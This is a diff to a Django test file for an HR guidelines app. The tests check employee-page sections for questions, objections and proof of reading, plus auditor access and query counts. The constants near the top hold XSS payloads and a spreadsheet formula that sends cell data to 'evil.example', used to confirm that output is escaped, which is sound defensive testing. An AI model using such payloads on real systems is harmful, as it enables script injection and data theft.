@@ -1,26 +1,30 @@
-"""HR and auditors, per employee: the employee page, the employee search, the exemption and extension forms
-with search-then-pick, revoking with a confirmation, and every list leading to the employee."""
+"""HR and auditors, per employee: the employee page (with the proof of reading of each acknowledgement and
+the employee's questions, objections and exception requests), the employee search, the exemption and
+extension forms with search-then-pick, revoking with a confirmation, and every list leading to the employee."""
 
 import re
 from datetime import timedelta
 
 import pytest
+import time_machine
 from django.core.exceptions import PermissionDenied
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone
 
-from guidelines import employees, services, status
+from guidelines import comprehension, employees, publishing, questions, services, status
 from guidelines.models import DueDateExtension, Employee, Exemption, NotificationLog
 from guidelines.views import people
 
-from ..factories import make_employee, make_guideline, publish
+from ..factories import make_draft, make_employee, make_guideline, publish
 from .test_error_pattern import assert_error_pattern
 
 HOSTILE_FIRST = '<img src=x onerror="alert(1)">'
 HOSTILE_LAST = '=HYPERLINK("http://evil.example/?"&A1)'
 HOSTILE_NUMBER = "<b>E666</b>"
+# What an employee may type as a question or a reason.
+HOSTILE_TEXT = '<script>alert(1)</script> "><img src=x onerror=alert(1)>'
 
 
 @pytest.fixture
@@ -170,6 +174,180 @@ def test_the_employee_page_has_a_bounded_number_of_queries(client_as, hilde, ali
     page_of(client, alice)
     with django_assert_max_num_queries(20):
         page_of(client, alice)
+
+
+# Questions, objections and exception requests -------------------------------------------------------------
+
+
+def _section(page, heading_id):
+    return re.search(rf'<section aria-labelledby="{heading_id}">(.*?)</section>', page, re.S).group(1)
+
+
+def _links(section, name):
+    """The pks of the `name` links (guidelines:question, guidelines:objection) in a section, in order."""
+    prefix = reverse(name, args=[0]).removesuffix("0/")
+    return [int(pk) for pk in re.findall(rf'href="{re.escape(prefix)}(\d+)/"', section)]
+
+
+def test_hr_sees_the_employees_questions_and_objections_newest_first(client_as, hilde, alice, version_1, web_meta):
+    answered = questions.ask(employee=alice, version=version_1, language="en", text="May I post office photos?")
+    questions.answer(question=answered, by=hilde, text="Yes, without people in them.")
+    waiting = questions.ask(employee=alice, version=version_1, language="nl", text="And of the town hall?")
+    objection = questions.record_objection(employee=alice, version=version_1, language="en", kind="objection",
+                                           reason="Too strict for the sales team.", meta=web_meta)
+    request = questions.record_objection(employee=alice, version=version_1, language="en", kind="exception",
+                                         reason="I am on leave until May.", meta=web_meta)
+    questions.resolve(objection=request, by=hilde, outcome="exempted", note="Granted until you are back.")
+
+    page = page_of(client_as(hilde), alice).content.decode()
+
+    asked = _section(page, "questions-heading")
+    assert _links(asked, "guidelines:question") == [waiting.pk, answered.pk]
+    rows = asked.split("<tr>")[2:]
+    assert "And of the town hall?" in rows[0] and "waiting for an answer" in rows[0] and "version 1.0" in rows[0]
+    assert "May I post office photos?" in rows[1] and '<span class="badge badge-ok">answered</span>' in rows[1]
+    assert "Only the newest" not in asked and "only the questions about guidelines you own" not in asked
+    objected = _section(page, "objections-heading")
+    assert _links(objected, "guidelines:objection") == [request.pk, objection.pk]
+    rows = objected.split("<tr>")[2:]
+    assert "Exception request</a>" in rows[0] and "I am on leave until May." in rows[0]
+    assert "exemption granted" in rows[0]
+    assert "Objection</a>" in rows[1] and "Too strict for the sales team." in rows[1] and "waiting for HR" in rows[1]
+
+
+def test_an_employee_without_questions_or_objections_has_empty_sections(client_as, hilde, bob, version_1):
+    page = page_of(client_as(hilde), bob).content.decode()
+    assert '<p class="empty">No questions.</p>' in _section(page, "questions-heading")
+    assert '<p class="empty">No objections or exception requests.</p>' in _section(page, "objections-heading")
+
+
+def test_the_lists_show_the_newest_and_say_when_there_are_more(client_as, hilde, alice, version_1, web_meta,
+                                                               monkeypatch, settings):
+    monkeypatch.setattr(questions, "EMPLOYEE_PAGE_ROWS", 2)
+    settings.QUESTION_RATE = (50, 3600)
+    asked = [questions.ask(employee=alice, version=version_1, language="en", text=f"Question {n}") for n in range(2)]
+    objected = [questions.record_objection(employee=alice, version=version_1, language="en", kind="objection",
+                                           reason=f"Reason {n}", meta=web_meta) for n in range(2)]
+    client = client_as(hilde)
+    page = page_of(client, alice).content.decode()
+    assert "Only the newest" not in page  # exactly as many as are listed
+
+    asked.append(questions.ask(employee=alice, version=version_1, language="en", text="Question 2"))
+    objected.append(questions.record_objection(employee=alice, version=version_1, language="en", kind="exception",
+                                               reason="Reason 2", meta=web_meta))
+    page = page_of(client, alice).content.decode()
+    questions_section, objections_section = _section(page, "questions-heading"), _section(page, "objections-heading")
+    assert _links(questions_section, "guidelines:question") == [asked[2].pk, asked[1].pk]
+    assert "Only the newest 2 questions are listed." in questions_section
+    assert _links(objections_section, "guidelines:objection") == [objected[2].pk, objected[1].pk]
+    assert "Only the newest 2 objections and exception requests are listed." in objections_section
+
+
+def test_the_employee_page_costs_the_same_queries_with_many_questions_and_objections(
+        client_as, hilde, alice, bob, version_1, web_meta, settings, django_assert_max_num_queries):
+    settings.QUESTION_RATE = (100, 3600)
+    questions.ask(employee=alice, version=version_1, language="en", text="One question")
+    questions.record_objection(employee=alice, version=version_1, language="en", kind="objection", reason="One",
+                               meta=web_meta)
+    client = client_as(hilde)
+    page_of(client, alice)
+    with CaptureQueriesContext(connection) as few:
+        page_of(client, alice)
+    few = len(few)  # now: the next request empties the log the context reads from
+
+    for n in range(4):
+        other = make_guideline(hilde, slug=f"rule-{n}")
+        version = publish(other, author=hilde, approver=bob.user)
+        thread = questions.ask(employee=alice, version=version, language="nl", text=f"Question {n}")
+        questions.answer(question=thread, by=hilde, text="An answer.")
+        request = questions.record_objection(employee=alice, version=version, language="en", kind="exception",
+                                             reason=f"Reason {n}", meta=web_meta)
+        questions.resolve(objection=request, by=hilde, outcome="declined" if n % 2 else "exempted", note="Noted.")
+    page_of(client, alice)
+    with django_assert_max_num_queries(few):
+        response = page_of(client, alice)
+    page = response.content.decode()
+    assert len(_links(_section(page, "questions-heading"), "guidelines:question")) == 5
+    assert len(_links(_section(page, "objections-heading"), "guidelines:objection")) == 5
+
+
+def test_an_auditor_reads_the_objections_and_only_the_questions_about_guidelines_they_own(
+        client_as, arjen, hilde, alice, bob, version_1, web_meta):
+    to_hilde = questions.ask(employee=alice, version=version_1, language="en", text="For the owner, Hilde.")
+    audited = make_guideline(arjen, slug="audit-rules")
+    audited_v1 = publish(audited, author=hilde, approver=bob.user)
+    to_arjen = questions.ask(employee=alice, version=audited_v1, language="en", text="For the owner, Arjen.")
+    objection = questions.record_objection(employee=alice, version=version_1, language="en", kind="objection",
+                                           reason="Too strict.", meta=web_meta)
+
+    page = page_of(client_as(arjen), alice).content.decode()
+
+    asked = _section(page, "questions-heading")
+    assert _links(asked, "guidelines:question") == [to_arjen.pk]
+    assert "only the questions about guidelines you own are listed" in asked and "For the owner, Hilde." not in page
+    assert _links(_section(page, "objections-heading"), "guidelines:objection") == [objection.pk]
+    # Every link leads to a page the auditor may open.
+    client = client_as(arjen)
+    assert client.get(reverse("guidelines:question", args=[to_arjen.pk])).status_code == 200
+    assert client.get(reverse("guidelines:objection", args=[objection.pk])).status_code == 200
+    assert client.get(reverse("guidelines:question", args=[to_hilde.pk])).status_code == 404
+
+
+def test_the_service_gives_the_threads_to_hr_and_auditors_only(alice, bob, hilde, arjen, version_1, nina):
+    questions.ask(employee=alice, version=version_1, language="en", text="A question.")
+    for reader in (alice.user, bob.user, nina):
+        with pytest.raises(PermissionDenied):
+            questions.threads_of(alice, by=reader)
+    assert len(questions.threads_of(alice, by=hilde).questions) == 1
+    assert questions.threads_of(alice, by=arjen).questions == []
+
+
+def test_the_proof_of_reading_of_each_acknowledgement_is_listed(client_as, hilde, alice, bob, guideline,
+                                                                 version_1, web_meta):
+    services.acknowledge(employee=alice, version=version_1, language="en", meta=web_meta)  # no reading reported
+    checked = make_guideline(hilde, slug="checked")
+    draft = make_draft(checked, author=hilde)
+    comprehension.set_questions(version=draft, by=hilde, questions=[
+        {"text": {"nl": f"Vraag {n}?", "en": f"Question {n}?"}, "correct": 1,
+         "choices": [{"nl": "Nee", "en": "No"}, {"nl": "Ja", "en": "Yes"}],
+         "hint": {"nl": "Zie de tekst.", "en": "See the text."}} for n in (1, 2)])
+    publishing.approve_version(version=draft, by=bob.user)
+    checked_v1 = publishing.publish_version(version=draft, by=hilde, material=True)
+    opened = timezone.now()
+    services.record_reading(employee=alice, version=checked_v1)
+    with time_machine.travel(opened + timedelta(seconds=61), tick=False):
+        services.record_progress(employee=alice, version=checked_v1, seconds=60, percent=50)
+    with time_machine.travel(opened + timedelta(seconds=126), tick=False):
+        services.record_progress(employee=alice, version=checked_v1, seconds=65, percent=100)
+    first, second = comprehension.questions_of(checked_v1)
+    comprehension.check_answers(employee=alice, version=checked_v1, answers={first.pk: 0, second.pk: 1})
+    comprehension.check_answers(employee=alice, version=checked_v1, answers={first.pk: 1, second.pk: 1})
+    services.acknowledge(employee=alice, version=checked_v1, language="en", meta=web_meta, reading_tracked=True)
+
+    page = page_of(client_as(hilde), alice).content.decode()
+
+    rows = _section(page, "acks-heading").split("<tr>")[2:]
+    assert len(rows) == 2
+    [read] = [row for row in rows if "tries" in row]
+    assert '<span class="field-name">Read to the end:</span> <time datetime=' in read
+    assert '<span class="field-name">Time on the text:</span> 2 min 5 s' in read
+    assert "2 questions answered rightly (tries per question: 2, 1)" in read
+    [unread] = [row for row in rows if row is not read]
+    assert '<span class="field-name">Read to the end:</span> not recorded' in unread
+    assert "Time on the text" not in unread and "tries" not in unread
+
+
+def test_hostile_questions_and_reasons_are_shown_as_text(client_as, hilde, mallory, version_1, web_meta):
+    questions.ask(employee=mallory, version=version_1, language="en", text=HOSTILE_TEXT)
+    questions.record_objection(employee=mallory, version=version_1, language="en", kind="exception",
+                               reason=HOSTILE_TEXT, meta=web_meta)
+
+    page = page_of(client_as(hilde), mallory).content.decode()
+
+    assert HOSTILE_TEXT not in page and "<script>alert(1)" not in page and "<img src=x onerror=alert(1)>" not in page
+    escaped = "&lt;script&gt;alert(1)&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=alert(1)&gt;"
+    assert escaped in _section(page, "questions-heading") and escaped in _section(page, "objections-heading")
+    _assert_escaped(page)
 
 
 # Hostile names and numbers ------------------------------------------------------------------------------
